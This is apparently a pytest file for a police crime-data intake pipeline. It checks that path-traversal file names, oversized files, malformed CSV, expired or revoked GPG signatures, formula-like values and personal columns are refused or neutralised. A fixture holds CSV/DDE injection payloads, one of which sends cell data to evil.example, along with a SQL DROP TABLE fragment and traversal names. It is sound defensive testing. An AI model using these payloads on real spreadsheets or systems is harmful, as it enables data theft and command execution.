"""The fault matrix's rows that need no service (issue 11; docs/FAULTS.md): hostile file names, a file over the size
limit, malformed CSV, signatures by an expired or revoked key, values that look like formulas, personal columns in a
depersonalised feed. Each case is refused or made harmless with a reason the partner can act on."""
from __future__ import annotations

import csv
import io
import subprocess
from contextlib import contextmanager
from pathlib import Path
from typing import Iterator

import gnupg
import pytest

from csp_observatory import decryption, intake, intake_quarantine, report_html, reporting, subject_access
from csp_observatory.parsing import UNKNOWN_COLUMNS_SHOWN, parse_csv
from csp_observatory.schema import SCHEMA_DIR
from csp_observatory.schema_loading import load_schema
from csp_observatory.sftp import RemoteFile

pytestmark = pytest.mark.unit

PERIOD = "209701"
FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "=1+1;DROP TABLE prc_offences;--")


@pytest.fixture(scope="module")
def schema():
    return load_schema(SCHEMA_DIR / "police_recorded_crime.yaml")


def _csv(rows: list[list[object]]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def _good_listing(period: str = PERIOD, size: int = 100) -> list[RemoteFile]:
    return [RemoteFile(f"prc_{f}_{period}.csv.gpg", size, 0) for f in ("offences", "offenders", "victims")]


def _plan(schema, listing: list[RemoteFile], **kw):
    return intake.plan_supplies(schema, listing, {f.name: f.size for f in listing}, **kw)


# ------------------------------------------------------------------ names and sizes


@pytest.mark.parametrize("name, words", [
    ("../prc_offences_209702.csv.gpg", "is a path"),
    ("..", "is a path"),
    ("prc_offences_209702.csv.gpg\\..\\x", "is a path"),
    ("prc offences 209702.csv.gpg", "does not match"),
    ("prc_offences_209702 .csv.gpg", "does not match"),
    ("prç_offences_209702.csv.gpg", "does not match"),
    ("prc_offences_２０９７０２.csv.gpg", "digits 0 to 9"),
])
def test_a_name_with_a_path_spaces_or_non_ascii_is_refused_and_blocks_nothing(schema, name, words):
    ready = _plan(schema, [*_good_listing(), RemoteFile(name, 100, 0)])
    assert [s.period for s in ready.supplies] == [PERIOD]             # the good supply beside it is taken
    assert words in ready.strays[name], ready.strays[name]
    # The partner is told in a note whose own name, like the quarantined copy's, stays inside quarantine/.
    assert "/" not in intake.shown_name(name) and "\\" not in intake.shown_name(name)


class _RecordingSftp:
    """Records what quarantine() asks of an SFTP server."""

    def __init__(self) -> None:
        self.renamed: list[tuple[str, str]] = []
        self.written: dict[str, bytes] = {}

    def posix_rename(self, src: str, dst: str) -> None:
        self.renamed.append((src, dst))

    @contextmanager
    def open(self, path: str, mode: str) -> Iterator[io.BytesIO]:
        buf = io.BytesIO()
        yield buf
        self.written[path] = buf.getvalue()


def test_a_quarantined_name_with_a_path_lands_inside_quarantine():
    from types import SimpleNamespace

    settings = SimpleNamespace(inbox=lambda p: f"/{p}/inbox", partner_folder=lambda p, sub: f"/{p}/{sub}")
    fake = _RecordingSftp()
    name = "../../etc/prc_offences_209702.csv.gpg"
    dst = intake_quarantine.quarantine(fake, settings, "police", name, "why")  # type: ignore[arg-type]
    folder = settings.partner_folder("police", "quarantine")
    assert dst.startswith(folder + "/") and "/" not in dst[len(folder) + 1:]
    assert fake.renamed[0][1] == dst
    assert all(p.startswith(folder + "/") and "/" not in p[len(folder) + 1:] for p in fake.written)


def test_a_file_over_the_size_limit_is_refused_from_its_listed_size_before_download(schema, monkeypatch):
    monkeypatch.delenv("CSP_MAX_FILE_BYTES", raising=False)
    gigabyte = 1 << 30
    listing = _good_listing()
    listing[0] = RemoteFile(listing[0].name, gigabyte, 0)
    ready = _plan(schema, listing)
    assert ready.supplies == []                       # nothing of it is downloaded: the period waits
    reason = ready.strays[listing[0].name]
    assert "1.0 GiB" in reason and "not downloaded" in reason and "512.0 MiB" in reason
    # The limit is a setting; a file at the limit is taken.
    monkeypatch.setenv("CSP_MAX_FILE_BYTES", str(gigabyte))
    assert [s.period for s in _plan(schema, listing).supplies] == [PERIOD]
    assert list(_plan(schema, listing, max_bytes=gigabyte - 1).strays) == [listing[0].name]


# ------------------------------------------------------------------ malformed CSV


def test_latin1_text_is_read_as_such_and_the_partner_told(tmp_path, schema):
    text = _csv([["crime_reference", "ho_offence_code", "committed_from_date", "method_of_entry"],
                 ["CR0001", "28E", "2026-09-01", "Façade forced, £5 taken, Zoë's door"]])
    path = tmp_path / "latin1.csv"
    path.write_bytes(text.encode("latin-1"))
    result = parse_csv(path, schema.file("offences"))
    assert result.frame["method_of_entry"].iloc[0] == "Façade forced, £5 taken, Zoë's door"
    assert any("UTF-8" in p or "cp1252" in p for p in result.header_problems), result.header_problems


def test_a_header_repeated_mid_file_is_one_rejected_row_and_the_rest_load(tmp_path, schema):
    header = ["crime_reference", "ho_offence_code", "committed_from_date", "method_of_entry"]
    path = tmp_path / "twice.csv"
    path.write_text(_csv([header, ["CR1", "28E", "2026-09-01", "door"], header, ["CR2", "28E", "2026-09-02", "x"]]))
    result = parse_csv(path, schema.file("offences"))
    assert result.frame["crime_reference"].tolist() == ["CR1", "CR2"]
    assert result.rejected["source_row"].tolist() == [2]
    assert result.rejected["reason"].iloc[0]


def test_ten_thousand_columns_load_the_known_ones_and_the_report_stays_short(tmp_path, schema):
    header = ["crime_reference", "ho_offence_code", "committed_from_date"]
    extra = [f"extra_{i}" for i in range(10_000 - len(header))]
    path = tmp_path / "wide.csv"
    path.write_text(_csv([header + extra, ["CR1", "28E", "2026-09-01"] + ["v"] * len(extra)]))
    result = parse_csv(path, schema.file("offences"))
    assert result.frame["crime_reference"].tolist() == ["CR1"] and not set(extra) & set(result.frame.columns)
    (dropped,) = [p for p in result.header_problems if "dropped" in p]
    assert f"and {len(extra) - UNKNOWN_COLUMNS_SHOWN:,} more ({len(extra):,} columns in all)" in dropped
    assert "extra_0," in dropped and "extra_100," not in dropped and len(dropped) < 1000


# ------------------------------------------------------------------ expired and revoked signing keys


def _gpg(home: Path, *args: str, faked: str | None = None) -> subprocess.CompletedProcess:
    time = ["--faked-system-time", faked] if faked else []
    return subprocess.run(["gpg", "--homedir", str(home), "--batch", "--pinentry-mode", "loopback", "--passphrase",
                           "", *time, *args], check=True, capture_output=True)


def _keyring(root: Path, name: str, faked: str | None = None, expire: str = "0") -> tuple[Path, str]:
    home = root / name
    home.mkdir(mode=0o700)
    _gpg(home, "--quick-gen-key", f"{name} <{name}@example.org>", "ed25519", "sign", expire, faked=faked)
    fpr = gnupg.GPG(gnupghome=str(home)).list_keys()[0]["fingerprint"]
    _gpg(home, "--quick-add-key", fpr, "cv25519", "encr", expire, faked=faked)
    return home, fpr


def _export(home: Path, fpr: str) -> bytes:
    return subprocess.run(["gpg", "--homedir", str(home), "--export", fpr], check=True, capture_output=True).stdout


def _import(home: Path, key: bytes) -> None:
    subprocess.run(["gpg", "--homedir", str(home), "--batch", "--import"], input=key, check=True, capture_output=True)


@pytest.fixture(scope="module")
def rings(tmp_path_factory):
    """The observatory, and two partners: one whose key expired (made and used in 2020), one whose key is revoked
    after it signed. Both keys are known to the observatory and pinned in turn."""
    root = tmp_path_factory.mktemp("fault_gpg")
    # made in 2019, so that the expired partner can encrypt to it in 2020
    obs_home, obs_fpr = _keyring(root, "observatory", faked="20191201T000000")
    out = {"observatory": (obs_home, obs_fpr)}
    plain = root / "plain.csv"
    plain.write_text("crime_reference\nCR1\n")
    for name, faked, expire in (("expired", "20200101T000000", "2020-06-01"), ("revoked", None, "0")):
        home, fpr = _keyring(root, name, faked=faked, expire=expire)
        _import(home, _export(obs_home, obs_fpr))
        signed = root / f"{name}.gpg"
        _gpg(home, "--trust-model", "always", "--encrypt", "--sign", "-r", obs_fpr, "-u", fpr, "-o", str(signed),
             str(plain), faked="20200301T000000" if faked else None)
        if name == "revoked":
            # gpg made a revocation certificate with the key; published, it revokes the key everywhere.
            cert = (home / "openpgp-revocs.d" / f"{fpr}.rev").read_text()
            _import(home, cert.replace(":-----BEGIN", "-----BEGIN").encode())
        _import(obs_home, _export(home, fpr))
        out[name] = (signed, fpr)
    yield out
    for home in root.iterdir():
        if home.is_dir():
            subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "gpg-agent"], capture_output=True)


@pytest.mark.parametrize("case, words", [("expired", "has expired"), ("revoked", "has been revoked")])
def test_a_file_signed_by_an_expired_or_revoked_key_is_refused_naming_which(rings, tmp_path, case, words):
    signed, fpr = rings[case]
    output = tmp_path / "plain" / "offences.csv"
    output.parent.mkdir()
    with pytest.raises(decryption.RefusedFile) as refused:
        decryption.decrypt_and_verify(rings["observatory"][0], signed, output, fpr)
    assert refused.value.kind == "expired_or_revoked" and words in refused.value.reason, refused.value.reason
    assert list(output.parent.iterdir()) == []              # no plaintext, partial or whole


def test_gpg_failing_to_write_is_the_observatorys_fault_not_a_damaged_file(tmp_path):
    stderr = ("[GNUPG:] BEGIN_DECRYPTION\ngpg: error writing to '/staging/x.partial': No space left on device\n"
              "[GNUPG:] FAILURE decrypt 28\n")
    with pytest.raises(OSError) as full:
        decryption.local_write_failure(stderr, tmp_path / "x")
    assert not isinstance(full.value, decryption.RefusedFile) and full.value.errno == 28
    decryption.local_write_failure("[GNUPG:] DECRYPTION_OKAY\n", tmp_path / "x")      # a good run passes


# ------------------------------------------------------------------ formulas, personal columns


def test_formula_like_values_are_kept_as_text(tmp_path, schema):
    rows = [["crime_reference", "ho_offence_code", "committed_from_date", "method_of_entry"]]
    rows += [[f"CR{i}", "28E", "2026-09-01", value] for i, value in enumerate(FORMULAS)]
    path = tmp_path / "formulas.csv"
    path.write_text(_csv(rows))
    result = parse_csv(path, schema.file("offences"))
    assert result.frame["method_of_entry"].tolist() == list(FORMULAS)
    assert str(result.frame["method_of_entry"].dtype) == "string" and result.rejected.empty


def test_formula_like_partner_text_is_inert_in_the_html_report(schema):
    from csp_observatory.pipeline_supply import SupplyFile
    from csp_observatory.reporting import SupplyOutcome

    name = '=HYPERLINK("x","<b>click</b>")&cmd.csv.gpg'
    outcome = SupplyOutcome(supply_id=f"{schema.feed}/202609", period="202609", status="loaded", files=[
        SupplyFile("offences", name, "a" * 64, 10, signer="F" * 40, rows_in_file=1)], rows_loaded={"offences": 1})
    page = report_html.render_html(reporting.build_report(schema, outcome))
    assert "<b>click" not in page and "&lt;b&gt;click&lt;/b&gt;" in page
    # shown as text: its quotes escaped too, so it can close no attribute and open no tag
    assert "=HYPERLINK(&quot;x&quot;,&quot;&lt;b&gt;" in page and '"x"' not in page and "<script" not in page


def test_a_csv_export_neutralises_formulas(tmp_path):
    (path,) = subject_access.export({"personal.ppo": [{"name": v} for v in FORMULAS]}, tmp_path / "out")
    cells = [r["name"] for r in csv.DictReader(path.open(encoding="utf-8"))]
    assert cells == [f"'{v}" for v in FORMULAS]
    # ordinary text, numbers and empty values are written as they are
    (path,) = subject_access.export({"personal.ppo": [{"name": "Jane Doe", "age": -4, "note": None}]},
                                    tmp_path / "plain")
    assert list(csv.DictReader(path.open(encoding="utf-8"))) == [{"name": "Jane Doe", "age": "-4", "note": ""}]


def test_name_and_birth_date_columns_in_a_depersonalised_file_are_dropped_and_reported(tmp_path, schema):
    assert not schema.personalised
    path = tmp_path / "personal.csv"
    path.write_text(_csv([["crime_reference", "ho_offence_code", "committed_from_date", "Offender Name",
                           "Date of Birth"], ["CR1", "28E", "2026-09-01", "John Smith", "1980-02-03"]]))
    result = parse_csv(path, schema.file("offences"))
    assert "John Smith" not in result.frame.astype(str).to_numpy().ravel().tolist()
    assert not {"Offender Name", "offender_name", "Date of Birth", "date_of_birth"} & set(result.frame.columns)
    (dropped,) = [p for p in result.header_problems if "dropped" in p]
    assert "Offender Name" in dropped and "Date of Birth" in dropped and "John Smith" not in dropped
